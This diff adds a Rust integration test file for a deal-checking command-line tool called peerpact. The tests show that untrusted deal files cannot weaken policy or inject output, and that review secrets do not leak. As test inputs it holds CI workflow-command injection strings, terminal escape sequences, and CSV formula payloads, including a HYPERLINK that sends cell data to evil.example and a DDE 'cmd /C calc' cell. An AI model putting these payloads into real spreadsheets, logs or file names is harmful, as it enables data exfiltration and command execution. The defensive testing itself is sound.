@@ -1,0 +1,382 @@
+//! Attacks that worked once: what comes from the other side decides nothing, commands nobody and takes nothing along.
+
+use std::fs;
+use std::path::Path;
+use std::process::{Command, Output};
+
+use tempfile::TempDir;
+
+const SANCTIONS: &str = "[[sanctions]]\nlist = \"Ours\"\nsource = \"x\"\nverified_on = \"2026-11-20\"\n\
+                         review_by = \"2099-12-20\"\nnames = [\"Harbour Telecom Ltd\"]\n";
+
+fn example(name: &str) -> String {
+    fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("examples").join(name)).unwrap()
+}
+
+/// A folder with files.
+fn home(files: &[(&str, &str)]) -> TempDir {
+    let home = tempfile::tempdir().unwrap();
+    for (path, text) in files {
+        write(&home, path, text);
+    }
+    home
+}
+
+fn write(home: &TempDir, path: &str, text: &str) {
+    let path = home.path().join(path);
+    fs::create_dir_all(path.parent().unwrap()).unwrap();
+    fs::write(path, text).unwrap();
+}
+
+fn run_in(folder: &Path, arguments: &[&str]) -> Output {
+    Command::new(env!("CARGO_BIN_EXE_peerpact"))
+        .args(arguments)
+        .current_dir(folder)
+        .env("SOURCE_DATE_EPOCH", "1796083200")
+        .output()
+        .unwrap()
+}
+
+/// Exit code, standard output, standard error.
+fn run(home: &TempDir, arguments: &[&str]) -> (i32, String, String) {
+    let output = run_in(home.path(), arguments);
+    let text = |bytes: Vec<u8>| String::from_utf8(bytes).unwrap();
+    (output.status.code().unwrap(), text(output.stdout), text(output.stderr))
+}
+
+// S2
+#[test]
+fn a_policy_that_came_with_the_deal_takes_nothing_away() {
+    let deal = example("smallest.yaml");
+    let house = format!("root = true\n{SANCTIONS}[company]\nname = \"Ours\"\n");
+    let home = home(&[("peerpact.toml", &house), ("deals/from-them/d.yaml", &deal), ("other/peerpact.toml", "")]);
+    let sanctioned = |folder: &str, arguments: &[&str]| {
+        let output = run_in(&home.path().join(folder), arguments);
+        assert!(String::from_utf8_lossy(&output.stderr).contains("REG006"), "{folder} {arguments:?}: {output:?}");
+        assert_eq!(output.status.code(), Some(1));
+    };
+    for theirs in ["", "root = true\n", "[levels]\nREG005 = \"off\"\n"] {
+        write(&home, "deals/from-them/peerpact.toml", theirs);
+        sanctioned("", &["check", "deals/from-them/d.yaml"]);
+        // The folder that one stands in is above no deal.
+        sanctioned("other", &["check", "../deals/from-them/d.yaml"]);
+    }
+    #[cfg(unix)]
+    {
+        write(&home, "inbox/peerpact.toml", "root = true\n");
+        std::os::unix::fs::symlink("../deals/from-them/d.yaml", home.path().join("inbox/d.yaml")).unwrap();
+        sanctioned("", &["check", "inbox/d.yaml"]);
+    }
+    // A file alone, if somebody says so.
+    assert_eq!(run(&home, &["check", "deals/from-them/d.yaml", "--policy", "other/peerpact.toml"]).0, 0);
+}
+
+#[test]
+fn a_report_says_which_policy_was_used() {
+    let deal = example("smallest.yaml");
+    let home = home(&[("peerpact.toml", "root = true\n"), ("deals/d.yaml", &deal)]);
+    let hash = peerpact::source::sha256(b"root = true\n");
+    let (_, json, _) = run(&home, &["check", "deals/d.yaml", "--format", "json"]);
+    let json: serde_json::Value = serde_json::from_str(&json).unwrap();
+    let expected = serde_json::json!([{
+        "files": [{"path": "peerpact.toml", "sha256": hash}], "left_out": [], "deals": ["deals/d.yaml"],
+    }]);
+    assert_eq!(json["policies"], expected);
+    let (_, sarif, _) = run(&home, &["check", "deals/d.yaml", "--format", "sarif"]);
+    let sarif: serde_json::Value = serde_json::from_str(&sarif).unwrap();
+    assert_eq!(sarif["runs"][0]["properties"]["policies"], expected);
+    // People are told of what one does not expect where one works: a nearer file, or one that is shut out.
+    let said = |home: &TempDir| run(home, &["check", "deals/d.yaml"]).2;
+    assert!(!said(&home).contains("peerpact.toml"));
+    write(&home, "deals/peerpact.toml", "");
+    assert!(said(&home).contains("policy of deals/d.yaml: peerpact.toml"), "{}", said(&home));
+    write(&home, "peerpact.toml", "");
+    write(&home, "deals/peerpact.toml", "root = true\n");
+    assert!(said(&home).contains("; left out: peerpact.toml"), "{}", said(&home));
+}
+
+#[test]
+fn the_policy_prints_whole_and_reads_back() {
+    let deal = example("smallest.yaml");
+    let far = format!("root = true\nhigh_risk = [\"XK\"]\n[levels]\nSLA001 = \"error\"\n{SANCTIONS}");
+    let near = "[levels]\nSLA002 = \"error\"\nSLA001 = \"off\"\n[company]\nname = \"A \\\"B\\\"\\u202E\"\n";
+    let home = home(&[("peerpact.toml", &far), ("deals/peerpact.toml", near), ("deals/d.yaml", &deal)]);
+    let (code, printed, err) = run(&home, &["policy", "deals/d.yaml"]);
+    assert_eq!(code, 0, "{err}");
+    for line in [
+        "SLA001 = \"error\"  # peerpact.toml",
+        "SLA002 = \"error\"  # deals/peerpact.toml",
+        "[[sanctions]]  # peerpact.toml",
+        "name = \"A \\\"B\\\"\\U0000202E\"  # deals/peerpact.toml",
+    ] {
+        assert!(printed.lines().any(|other| other == line), "{line} is not in\n{printed}");
+    }
+    assert!(printed.contains("# SLA003 = "), "the usual weights stand there, too");
+    write(&home, "whole.toml", &printed);
+    let again = run(&home, &["policy", "--policy", "whole.toml"]).1;
+    let parts = |text: &str| -> Vec<String> {
+        let lines = text.lines().map(|line| line.split("  # ").next().unwrap_or_default().to_owned());
+        lines.filter(|line| !line.starts_with("# ") || line.contains(" = ")).collect()
+    };
+    assert_eq!(parts(&again), parts(&printed));
+}
+
+// S7
+#[test]
+fn no_value_and_no_name_begins_a_line_or_commands_a_runner() {
+    let attack = "x\\n::stop-commands::pwned\\n  ::error file=README.md::forged\\r##[error]x\\u2028##vso[task]y";
+    let deal = example("smallest.yaml");
+    let fields = [
+        "route: cli",
+        "destination: Hong Kong Mobile",
+        "rate: 0.0180",
+        "currency: USD",
+        "we: straits",
+        "increment: 1/1",
+    ];
+    let mut deals: Vec<String> = fields
+        .iter()
+        .filter_map(|field| {
+            let (key, _) = field.split_once(": ")?;
+            assert!(deal.contains(field), "{field}");
+            Some(deal.replacen(field, &format!("{key}: \"{attack}\""), 1))
+        })
+        .collect();
+    deals.push(format!("{deal}\n\"{attack}\": 1\n"));
+    deals.push(format!("{deal}\nspecial_terms: [{{instead: \"{attack}\", text: \"{attack}\"}}]\n"));
+    deals.push(format!("{deal}\nwaivers: [{{rule: \"{attack}\", reason: x, by: y}}]\n"));
+    for text in deals {
+        let home = home(&[("d.yaml", &text)]);
+        for format in ["human", "json", "sarif", "github"] {
+            let (code, out, err) = run(&home, &["check", "d.yaml", "--format", format]);
+            assert!(code < 2, "{err}");
+            for line in out.lines().chain(err.lines()) {
+                let ours = ["::error title=", "::warning title=", "::notice title="];
+                let begins = line.trim_start();
+                assert!(
+                    !begins.starts_with("::") || ours.iter().any(|ours| line.starts_with(ours)),
+                    "{format}: {line}"
+                );
+                assert!(!line.contains("##[") && !line.contains("##vso["), "{format}: {line}");
+                assert!(!line.contains(['\r', '\u{2028}', '\u{1b}']), "{format}: {line}");
+            }
+        }
+    }
+}
+
+#[cfg(unix)]
+#[test]
+fn a_file_name_with_a_line_break_begins_no_line() {
+    let name = "d\n::error::x\u{1b}[2J.yaml";
+    let home = home(&[(name, "mode: x\n")]);
+    for arguments in [
+        &["check", name][..],
+        &["draft", name],
+        &["check", "no\n::error::x"],
+        &["check", name, "--policy", "no\n::error::x"],
+    ] {
+        let (_, out, err) = run(&home, arguments);
+        for line in out.lines().chain(err.lines()) {
+            assert!(!line.trim_start().starts_with("::") && !line.contains('\u{1b}'), "{arguments:?}: {line}");
+        }
+    }
+}
+
+// S13
+#[test]
+fn machines_are_given_escapes_and_no_controls() {
+    let home = home(&[("d.yaml", "\"x\\e]0;PWN\\a\\e[2J\\u009b\\u202e\\u200b\": 1\n")]);
+    for format in ["human", "json", "sarif", "github"] {
+        let (_, out, err) = run(&home, &["check", "d.yaml", "--format", format]);
+        let hidden = |c: &char| peerpact::characters::is_hidden(*c) && *c != '\n';
+        assert_eq!((out.chars().find(hidden), err.chars().find(hidden)), (None, None), "{format}");
+    }
+    let (_, json, _) = run(&home, &["check", "d.yaml", "--format", "json"]);
+    let json: serde_json::Value = serde_json::from_str(&json).unwrap();
+    let held = json["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .any(|it| it["message"].to_string().contains('\u{202e}') || it["path"].to_string().contains('\u{202e}'));
+    assert!(held, "a program gets the text as it is: {json:#}");
+}
+
+// S10
+#[test]
+fn a_baseline_hides_no_error() {
+    let deal = example("smallest.yaml");
+    let house = SANCTIONS.replace("\"Harbour Telecom Ltd\"", "\"Harbour Telecom Ltd\", \"Quay Front Ltd\"");
+    let home = home(&[("peerpact.toml", &house), ("d.yaml", &deal)]);
+    let (_, known, _) = run(&home, &["check", "d.yaml", "--format", "json"]);
+    write(&home, "known.json", &known);
+    assert_eq!(run(&home, &["check", "d.yaml", "--baseline", "known.json"]).0, 1);
+    write(&home, "d.yaml", &deal.replace("Harbour Telecom Ltd", "Quay Front Ltd"));
+    let (code, _, err) = run(&home, &["check", "d.yaml", "--baseline", "known.json"]);
+    assert_eq!(code, 1);
+    assert!(err.contains("REG006"), "{err}");
+}
+
+// S11
+#[test]
+fn what_lies_beside_the_files_to_send_tells_nothing() {
+    let secrets = "waivers: [{rule: SLA001, reason: we hide that the switch is old, by: Ada Lovelace, until: ~}]\n";
+    let deal = example("germany-france.yaml").replace("by: Head of Carrier Sales", "by: Grace Hopper") + "\n" + secrets;
+    let home = home(&[("d.yaml", &deal)]);
+    let (code, _, err) = run(&home, &["draft", "d.yaml", "--review", "-t", "md"]);
+    assert_eq!(code, 0, "{err}");
+    let read = |name: &str| fs::read_to_string(home.path().join("out").join(name)).unwrap();
+    let names = |folder: &str| {
+        let mut names: Vec<String> = fs::read_dir(home.path().join(folder))
+            .unwrap()
+            .map(|entry| entry.unwrap().file_name().into_string().unwrap())
+            .collect();
+        names.sort();
+        names
+    };
+    assert_eq!(names("out"), ["d.manifest.json", "d.md", "review"]);
+    assert_eq!(names("out/review"), ["d.review.manifest.json", "d.review.md"]);
+    for secret in ["we hide", "Ada Lovelace", "Grace Hopper"] {
+        assert!(read("review/d.review.manifest.json").contains(secret), "{secret}");
+        assert!(!read("d.manifest.json").contains(secret) && !read("d.md").contains(secret), "{secret}");
+    }
+    // Beside names of keys, formats and versions there are hashes, and nothing else.
+    let manifest: serde_json::Value = serde_json::from_str(&read("d.manifest.json")).unwrap();
+    fn values<'a>(value: &'a serde_json::Value, out: &mut Vec<&'a str>) {
+        match value {
+            serde_json::Value::Object(map) => map.values().for_each(|value| values(value, out)),
+            serde_json::Value::Array(items) => items.iter().for_each(|value| values(value, out)),
+            value => out.extend(value.as_str()),
+        }
+    }
+    let mut said = Vec::new();
+    values(&manifest, &mut said);
+    said.retain(|text| *text != env!("CARGO_PKG_VERSION"));
+    assert!(said.len() >= 4);
+    for text in said {
+        assert!(text.len() == 64 && text.bytes().all(|byte| byte.is_ascii_hexdigit()), "{text}");
+    }
+}
+
+// S16
+#[test]
+fn a_file_from_elsewhere_or_edited_since_is_not_replaced() {
+    let home = home(&[("d.yaml", &example("smallest.yaml")), ("out/d.md", "theirs")]);
+    let draft = |more: &[&str]| run(&home, &[&["draft", "d.yaml", "-t", "md,html"], more].concat());
+    let (code, _, err) = draft(&[]);
+    assert_eq!(code, 2);
+    assert!(err.contains("out/d.md: no manifest beside it names it as it is") && err.contains("--overwrite"), "{err}");
+    assert!(!home.path().join("out/d.html").exists(), "all or none");
+    assert_eq!(draft(&["--overwrite"]).0, 0);
+    assert_eq!(draft(&[]).0, 0, "what it wrote itself it writes again");
+    write(&home, "out/d.html", "edited in Word");
+    assert_eq!(draft(&[]).0, 2);
+    assert_eq!(fs::read_to_string(home.path().join("out/d.html")).unwrap(), "edited in Word");
+    // The wizard does the same.
+    let answers =
+        fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("examples/answers/smallest.yaml")).unwrap();
+    write(&home, "a.yaml", &answers);
+    write(&home, "deal.md", "theirs");
+    let new = |more: &[&str]| run(&home, &[&["new", "deal.yaml", "--answers", "a.yaml", "-t", "md"], more].concat());
+    let (code, _, err) = new(&[]);
+    assert_eq!((code, home.path().join("deal.yaml").exists()), (2, false), "{err}");
+    assert_eq!(fs::read_to_string(home.path().join("deal.md")).unwrap(), "theirs");
+    let (code, _, err) = new(&["--overwrite"]);
+    assert_ne!(code, 2, "{err}");
+}
+
+// S6
+#[cfg(unix)]
+#[test]
+fn a_run_of_many_deals_needs_few_descriptors() {
+    let deal = example("smallest.yaml");
+    let home = tempfile::tempdir().unwrap();
+    let names: Vec<String> = (0..40).map(|index| format!("d{index}.yaml")).collect();
+    for name in &names {
+        fs::write(home.path().join(name), &deal).unwrap();
+    }
+    let output = Command::new("sh")
+        .args(["-c", "ulimit -n 32; exec \"$@\"", "sh", env!("CARGO_BIN_EXE_peerpact"), "draft", "-q", "-t", "md"])
+        .args(&names)
+        .current_dir(home.path())
+        .output()
+        .unwrap();
+    assert!(output.status.success(), "{output:?}");
+    assert_eq!(fs::read_dir(home.path().join("out")).unwrap().count(), 80);
+}
+
+// S8
+#[cfg(unix)]
+#[test]
+fn a_pipe_among_the_left_overs_is_removed_and_not_opened() {
+    let home = home(&[("d.yaml", &example("smallest.yaml"))]);
+    fs::create_dir(home.path().join("out")).unwrap();
+    let pipe = home.path().join("out/.peerpact-AAAAAAAAAAAA.tmp");
+    assert!(Command::new("mkfifo").arg(&pipe).status().unwrap().success());
+    assert_eq!(run(&home, &["draft", "d.yaml", "-t", "md"]).0, 0);
+    assert!(fs::symlink_metadata(&pipe).is_err());
+}
+
+// S8
+#[cfg(unix)]
+#[test]
+fn a_baseline_is_a_file_that_ends() {
+    let home = home(&[("d.yaml", &example("smallest.yaml"))]);
+    assert!(Command::new("mkfifo").arg(home.path().join("pipe")).status().unwrap().success());
+    fs::File::create(home.path().join("sparse")).unwrap().set_len(2 << 30).unwrap();
+    for (name, says) in [("pipe", "a pipe or a device"), ("/dev/zero", "a pipe or a device"), ("sparse", "larger than")]
+    {
+        let (code, _, err) = run(&home, &["check", "d.yaml", "--baseline", name]);
+        assert!(code == 2 && err.contains(&format!("cannot use the baseline {name}: it is ")), "{name}: {err}");
+        assert!(err.contains(says), "{name}: {err}");
+    }
+}
+
+// S8
+#[cfg(unix)]
+#[test]
+fn a_library_is_files_that_end_and_not_too_many() {
+    let home = home(&[("d.yaml", &example("smallest.yaml")), ("many/clauses/a.md", "")]);
+    let check = |folder: &str| run(&home, &["check", "d.yaml", "--library", folder]);
+    let clauses = |folder: &str| {
+        let path = home.path().join(folder).join("clauses");
+        fs::create_dir_all(&path).unwrap();
+        path
+    };
+    let pipe = clauses("pipe").join("x.md");
+    assert!(Command::new("mkfifo").arg(pipe).status().unwrap().success());
+    assert!(check("pipe").2.contains("a pipe or a device"), "{}", check("pipe").2);
+    let large = clauses("large");
+    for at in 0..3 {
+        fs::File::create(large.join(format!("{at}.md"))).unwrap().set_len(30 << 20).unwrap();
+    }
+    assert!(check("large").2.contains("larger than 64 MiB together"), "{}", check("large").2);
+    let many = clauses("many");
+    for at in 0..5_000 {
+        fs::write(many.join(format!("{at}.md")), "").unwrap();
+    }
+    let (code, _, err) = check("many");
+    assert!(code == 2 && err.contains("at most 5000 files and folders"), "{err}");
+}
+
+// S12
+#[test]
+fn no_cell_of_a_deck_that_goes_out_is_a_formula() {
+    let deck = "flow,destination,codes,origin,route,rate,currency,increment\n\
+                hk,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"HK Mobile\"\")\",8525,@SUM(A1),cli,0.02,USD,1/1\n\
+                hk,-cmd|' /C calc'!A0,8526,+1 home,cli,0.03,USD,1/1\n";
+    let home = home(&[("deck.csv", deck)]);
+    let (code, out, err) = run(&home, &["rates", "export", "deck.csv"]);
+    assert_eq!(code, 0, "{err}");
+    let cells = |text: &str| -> Vec<String> {
+        // Whatever a comma cuts: nothing that follows one, or a quotation mark behind one, may be a sign of a formula.
+        text.lines().flat_map(|line| line.split(',').map(str::to_owned).collect::<Vec<_>>()).collect()
+    };
+    let found = cells(&out);
+    assert!(found.iter().any(|cell| cell.contains("HYPERLINK")), "{out}");
+    for cell in found {
+        assert!(!cell.trim_start_matches('"').starts_with(['=', '@', '+', '-']), "{cell} in\n{out}");
+    }
+    // It reads back as it was.
+    write(&home, "again.csv", &out);
+    assert_eq!(run(&home, &["rates", "export", "again.csv"]).1, out);
+}
